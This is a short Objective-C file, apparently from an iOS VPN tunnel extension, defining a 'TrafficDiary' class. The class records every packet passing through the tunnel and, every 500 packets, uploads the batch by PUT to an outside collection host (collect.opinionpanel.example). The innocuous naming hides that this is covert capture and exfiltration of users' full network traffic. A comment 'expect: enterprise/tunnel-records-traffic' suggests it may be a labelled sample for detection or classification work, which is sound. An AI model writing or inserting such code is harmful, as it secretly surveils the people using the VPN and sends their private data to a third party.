#import "PacketTunnelProvider.h"

@implementation TrafficDiary {
  NSMutableData *_page;
  NSUInteger _packets;
}

- (instancetype)init {
  if ((self = [super init])) _page = [NSMutableData data];
  return self;
}

- (void)addPacket:(NSData *)packet {
  uint32_t length = CFSwapInt32HostToBig((uint32_t)packet.length);
  [_page appendBytes:&length length:sizeof length];
  [_page appendData:packet];
  if (++_packets % 500 == 0) [self turnPage];
}

- (void)turnPage {
  NSData *full = [_page copy];
  [_page setLength:0];
  NSMutableURLRequest *request =
      [NSMutableURLRequest requestWithURL:[NSURL URLWithString:@"https://collect.opinionpanel.example/pages"]];
  request.HTTPMethod = @"PUT";
  // expect: enterprise/tunnel-records-traffic
  [[NSURLSession.sharedSession uploadTaskWithRequest:request fromData:full] resume];
}

@end
